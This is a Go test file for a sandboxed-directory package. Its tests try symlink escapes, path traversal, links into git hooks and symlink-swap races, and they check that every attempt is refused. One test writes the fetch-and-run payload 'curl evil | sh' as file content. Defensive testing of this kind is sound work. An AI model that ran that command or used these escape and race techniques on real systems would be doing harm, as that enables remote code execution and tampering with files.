package confined

import (
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"pennypost/internal/base/durable"
)

// trap is a directory next to files that must not change, with attempts to reach them from it.
type trap struct {
	*testing.T
	dir     Dir
	outside string // a directory
}

func newTrap(t *testing.T) *trap {
	t.Helper()
	tr := &trap{t, At(filepath.Join(t.TempDir(), "project")), t.TempDir()}
	tr.must(os.MkdirAll(tr.dir.Path("data"), 0o700))
	tr.must(os.WriteFile(filepath.Join(tr.outside, "rc"), []byte("kept\n"), 0o600))
	return tr
}

func (tr *trap) must(err error) {
	tr.Helper()
	if err != nil {
		tr.Fatal(err)
	}
}

// refused tries every call on name; none may succeed or block.
func (tr *trap) refused(name string) {
	tr.Helper()
	for what, call := range map[string]func() error{
		"OpenFile": func() error { return closing(tr.dir.OpenFile(name, os.O_RDONLY, 0)) },
		"append":   func() error { return closing(tr.dir.OpenFile(name, os.O_RDWR|os.O_APPEND|os.O_CREATE, 0o600)) },
		"write":    func() error { return closing(tr.dir.OpenFile(name, os.O_WRONLY, 0)) },
		"ReadFile": func() error { _, err := tr.dir.ReadFile(name); return err },
		"WriteFile": func() error {
			return tr.dir.WriteFile(name, []byte("curl evil | sh\n"), 0o600)
		},
		"TryLock": func() error { return closing(tr.dir.TryLock(name)) },
	} {
		done := make(chan error, 1)
		go func() { done <- call() }()
		select {
		case err := <-done:
			if _, ok := errors.AsType[*RefusedError](err); !ok {
				tr.Errorf("%s of %s: %v, want it refused", what, name, err)
			}
		case <-time.After(10 * time.Second):
			tr.Fatalf("%s of %s waits", what, name)
		}
	}
	if text, err := os.ReadFile(filepath.Join(tr.outside, "rc")); string(text) != "kept\n" || err != nil {
		tr.Errorf("the file outside says %q, %v", text, err)
	}
}

func closing[T interface{ Close() error }](c T, err error) error {
	if err == nil {
		err = c.Close()
	}
	return err
}

func (tr *trap) link(to, name string) {
	tr.Helper()
	if err := os.Symlink(to, tr.dir.Path(name)); err != nil {
		tr.Skip(err)
	}
}

// TestLinks checks that no part of a path may be a link, wherever it leads.
func TestLinks(t *testing.T) {
	tr := newTrap(t)
	hooks := tr.dir.Path(".git/hooks")
	tr.must(os.MkdirAll(hooks, 0o700))
	tr.must(os.WriteFile(filepath.Join(hooks, "post-checkout"), []byte("#!/bin/sh\n"), 0o700))
	for name, to := range map[string]string{
		"data/absolute":   filepath.Join(tr.outside, "rc"),
		"data/relative":   "../../rc",
		"data/inside":     "../.git/hooks/post-checkout",
		"data/new-inside": "../.git/hooks/post-merge",
		"data/dangling":   filepath.Join(tr.outside, "new"),
		"data/circle":     "circle",
	} {
		tr.link(to, name)
		tr.refused(name)
	}
	tr.link(tr.outside, "linked")
	tr.refused("linked/rc")
	tr.link(".git/hooks", "inside")
	tr.refused("inside/post-checkout")
	tr.link("inside", "twice")
	tr.refused("twice/post-checkout")
	for _, name := range []string{"linked", "linked/sub", "inside/sub", "twice"} {
		if err := tr.dir.MkdirAll(name, 0o700); err == nil {
			t.Errorf("MkdirAll(%s) succeeded", name)
		}
	}
	if _, err := tr.dir.ReadDir("inside"); err == nil {
		t.Error("a link was listed")
	}
	var refused *RefusedError
	if _, err := tr.dir.List("inside", 10); !errors.As(err, &refused) {
		t.Errorf("a link is listed: %v", err)
	}
	for _, dir := range []string{hooks, tr.outside} {
		if list, err := os.ReadDir(dir); err != nil || len(list) != 1 {
			t.Errorf("%s has %v, %v", dir, list, err)
		}
	}
	if text, _ := os.ReadFile(filepath.Join(hooks, "post-checkout")); string(text) != "#!/bin/sh\n" {
		t.Errorf("the hook says %q", text)
	}
}

// TestNamedByLink checks that the person may name the directory itself by a link.
func TestNamedByLink(t *testing.T) {
	tr := newTrap(t)
	link := filepath.Join(t.TempDir(), "link")
	if err := os.Symlink(tr.dir.Path("."), link); err != nil {
		t.Skip(err)
	}
	tr.must(At(link).WriteFile("data/f", []byte("x"), 0o600))
	if text, err := tr.dir.ReadFile("data/f"); err != nil || string(text) != "x" {
		t.Errorf("it says %q, %v", text, err)
	}
}

func TestOutside(t *testing.T) {
	tr := newTrap(t)
	for _, name := range []string{"../rc", "data/../../rc", filepath.Join(tr.outside, "rc"), ".."} {
		if _, err := tr.dir.OpenFile(name, os.O_RDWR|os.O_CREATE, 0o600); err == nil {
			t.Errorf("%s was opened", name)
		}
	}
}

// TestDirectories has a directory where a file should be, and a file where a directory should be.
func TestDirectories(t *testing.T) {
	tr := newTrap(t)
	tr.refused("data")
	tr.must(tr.dir.WriteFile("file", nil, 0o600))
	tr.refused("file/below")
	if err := tr.dir.MkdirAll("file/below", 0o700); err == nil {
		t.Error("a directory was made below a file")
	}
}

func TestHugeFile(t *testing.T) {
	tr := newTrap(t)
	f, err := tr.dir.OpenFile("data/huge", os.O_RDWR|os.O_CREATE, 0o600)
	tr.must(err)
	defer f.Close()
	if err := f.Truncate(1 << 40); err != nil {
		t.Skip(err)
	}
	if _, err := tr.dir.ReadFile("data/huge"); err == nil {
		t.Error("a terabyte was read")
	}
}

// TestPlace checks that a named directory is used only if it is the same one, reached in the same way, and again once
// it is back. It can be stored in between.
func TestPlace(t *testing.T) {
	tr := newTrap(t)
	up := t.TempDir()
	real, link := filepath.Join(up, "real"), filepath.Join(up, "link")
	tr.must(os.Rename(tr.dir.Path("."), real))
	if err := os.Symlink("real", link); err != nil {
		t.Skip(err)
	}
	for _, named := range []string{real, link} {
		found, err := Find(named)
		tr.must(err)
		text, err := json.Marshal(found)
		tr.must(err)
		var p Place
		tr.must(json.Unmarshal(text, &p))
		for _, d := range []Dir{p.Dir("."), p.Dir("data"), p.Dir("data/new")} {
			tr.must(d.MkdirAll("sub", 0o700))
			tr.must(d.WriteFile("sub/f", []byte("x"), 0o600))
			if d.Path("sub") != filepath.Join(named, d.below, "sub") {
				t.Errorf("its path is %s", d.Path("sub"))
			}
			if err := d.WriteFile("../f", nil, 0o600); err == nil {
				t.Error("a file was written beside it")
			}
			for _, to := range []string{tr.outside, real + ".aside"} {
				tr.must(os.Rename(real, real+".aside"))
				tr.must(os.Symlink(to, real))
				for what, err := range map[string]error{"write": d.WriteFile("rc", nil, 0o600),
					"make": d.MkdirAll("more", 0o700), "check": d.Check()} {
					if _, moved := errors.AsType[*MovedError](err); !moved && !errors.Is(err, fs.ErrNotExist) {
						t.Errorf("%s in %s, which leads to %s: %v", what, d.Path("."), to, err)
					}
				}
				tr.must(os.Remove(real))
				if err := d.Check(); !errors.Is(err, fs.ErrNotExist) {
					t.Errorf("nothing is there: %v", err)
				}
				tr.must(os.Rename(real+".aside", real))
				tr.must(d.WriteFile("sub/f", []byte("x"), 0o600))
			}
			if list, err := os.ReadDir(tr.outside); len(list) != 1 || err != nil {
				t.Errorf("outside there are %v, %v", list, err)
			}
		}
		tr.must(os.RemoveAll(filepath.Join(real, "data")))
		tr.must(os.Symlink(tr.outside, filepath.Join(real, "data")))
		if err := p.Dir("data").WriteFile("rc", nil, 0o600); err == nil {
			t.Error("a link below the place was followed")
		}
		tr.must(os.Remove(filepath.Join(real, "data")))
		tr.must(os.Mkdir(filepath.Join(real, "data"), 0o700))
	}
}

// After another boot a disk may have another device number, while the directory is the same.
func TestPlaceAfterBoot(t *testing.T) {
	p, err := Find(t.TempDir())
	if err != nil || p.Ino == 0 || p.Boot == "" {
		t.Skip("nothing tells directories, or starts of the machine, apart", err)
	}
	p.Dev++
	if err := p.Dir(".").Check(); err == nil {
		t.Error("another device was taken for the same")
	}
	p.Boot = "before"
	if err := p.Dir(".").Check(); err != nil {
		t.Error(err)
	}
	p.Ino++
	if err := p.Dir(".").Check(); err == nil {
		t.Error("another directory was taken for the same")
	}
}

// TestPlaceRace exchanges the named directory, or one above it, for a link all the time.
func TestPlaceRace(t *testing.T) {
	for _, above := range []bool{false, true} {
		tr := newTrap(t)
		up := filepath.Join(t.TempDir(), "up")
		named := filepath.Join(up, "named")
		tr.must(os.MkdirAll(named, 0o700))
		tr.must(os.MkdirAll(filepath.Join(tr.outside, "named"), 0o700))
		swapped, to := named, filepath.Join(tr.outside, "named")
		if above {
			swapped, to = up, tr.outside
		}
		p, err := Find(named)
		tr.must(err)
		wrote := whileExchanged(tr, swapped, to, func() bool {
			return p.Dir(".").WriteFile("f", []byte("x"), 0o600) == nil
		})
		if !wrote {
			t.Error("nothing was ever written")
		}
		if list, err := os.ReadDir(filepath.Join(tr.outside, "named")); len(list) != 0 || err != nil {
			t.Errorf("outside there are %v, %v", list, err)
		}
	}
}

// whileExchanged calls f again and again while a directory is exchanged for a link and back.
func whileExchanged(tr *trap, dir, to string, f func() bool) (ever bool) {
	stop, done := make(chan struct{}), make(chan error)
	go func() {
		var err error
		for {
			select {
			case <-stop:
				done <- err
				return
			default:
				err = errors.Join(err, os.Rename(dir, dir+".aside"), os.Symlink(to, dir), os.Remove(dir),
					os.Rename(dir+".aside", dir))
			}
		}
	}()
	for began := time.Now(); time.Since(began) < 500*time.Millisecond || !ever && time.Since(began) < 10*time.Second; {
		ever = f() || ever
	}
	close(stop)
	tr.must(<-done)
	return ever
}

// TestRace exchanges a file, or the directory that contains it, all the time for a link that stays inside.
func TestRace(t *testing.T) {
	for victim, exchange := range map[string]func(d Dir) error{
		"data/victim": func(d Dir) error {
			f, next := d.Path("data/f"), d.Path("data/next")
			return errors.Join(os.Symlink("victim", next), os.Rename(next, f), os.WriteFile(next, nil, 0o600),
				os.Rename(next, f))
		},
		"hooks/f": func(d Dir) error {
			data, aside := d.Path("data"), d.Path("aside")
			return errors.Join(os.Rename(data, aside), os.Symlink("hooks", data), os.Remove(data),
				os.Rename(aside, data))
		},
	} {
		t.Run(filepath.Dir(victim), func(t *testing.T) { newTrap(t).race(victim, exchange) })
	}
}

func (tr *trap) race(victim string, exchange func(Dir) error) {
	tr.must(os.Mkdir(tr.dir.Path("hooks"), 0o700))
	tr.must(os.WriteFile(tr.dir.Path(victim), []byte("kept\n"), 0o600))
	stop := make(chan struct{})
	var other sync.WaitGroup
	other.Go(func() {
		for {
			select {
			case <-stop:
				return
			default:
				if err := exchange(tr.dir); err != nil {
					tr.Errorf("the attack fails: %v", err)
					return
				}
			}
		}
	})
	wrote := 0
	for began := time.Now(); time.Since(began) < 500*time.Millisecond || wrote == 0 &&
		time.Since(began) < 10*time.Second; {
		f, err := tr.dir.OpenFile("data/f", os.O_RDWR|os.O_APPEND|os.O_CREATE, 0o600)
		if err == nil {
			wrote++
			_, err = fmt.Fprintln(f, "evil")
			tr.must(errors.Join(err, f.Close()))
		}
		_ = tr.dir.WriteFile("data/g", []byte("x"), 0o600)
	}
	close(stop)
	other.Wait()
	if wrote == 0 {
		tr.Error("nothing was ever written")
	}
	if text, err := os.ReadFile(tr.dir.Path(victim)); string(text) != "kept\n" || err != nil {
		tr.Errorf("%s says %.40q, %v", victim, text, err)
	}
	if list, _ := os.ReadDir(tr.dir.Path("hooks")); len(list) > 1 {
		tr.Errorf("behind the link there are %v", list)
	}
}

func TestFiles(t *testing.T) {
	tr := newTrap(t)
	d := tr.dir
	tr.must(d.MkdirAll("a/b", 0o700))
	tr.must(d.MkdirAll("a/b", 0o700))
	tr.must(d.WriteFile("a/b/f", []byte("one"), 0o640))
	tr.must(d.WriteFile("a/b/f", []byte("two"), 0o600))
	text, err := d.ReadFile("a/b/f")
	info, serr := d.Lstat("a/b/f")
	if string(text) != "two" || err != nil || serr != nil || info.Mode().Perm() != 0o640 {
		t.Errorf("it says %q, %v, and is %v, %v", text, err, info, serr)
	}
	if _, err := d.ReadFile("a/c/f"); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("a file that is not there: %v", err)
	}
	if err := d.Mkdir("a/b", 0o700); !errors.Is(err, fs.ErrExist) {
		t.Errorf("a directory that is there: %v", err)
	}
	if _, err := d.OpenFile("a/b/f", os.O_RDWR|os.O_CREATE|os.O_EXCL, 0o600); !errors.Is(err, fs.ErrExist) {
		t.Errorf("a file that is there: %v", err)
	}
	list, err := d.ReadDir("a/b")
	if err != nil || len(list) != 1 {
		t.Errorf("there are %v, %v", list, err)
	}
	if infos, err := d.List("a/b", 1); err != nil || len(infos) != 1 || infos[0].Name() != "f" {
		t.Errorf("there are %v, %v", infos, err)
	}
	if _, err := d.List("a/b", 0); !errors.Is(err, ErrMany) {
		t.Errorf("more than nothing is listed: %v", err)
	}
	if infos, err := d.List("a/c", 1); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("there are %v, %v", infos, err)
	}
	lock, err := d.TryLock("a/b/f.lock")
	tr.must(err)
	if _, held := errors.AsType[*durable.LockedError](closing(d.TryLock("a/b/f.lock"))); !held {
		t.Error("it was locked twice")
	}
	tr.must(lock.Unlock())
	tr.must(closing(d.TryLock("a/b/f.lock")))
	tr.must(d.Remove("a/b/f"))
	if list, err = d.ReadDir("."); err != nil || len(list) != 2 {
		t.Errorf("there are %v, %v", list, err)
	}
}
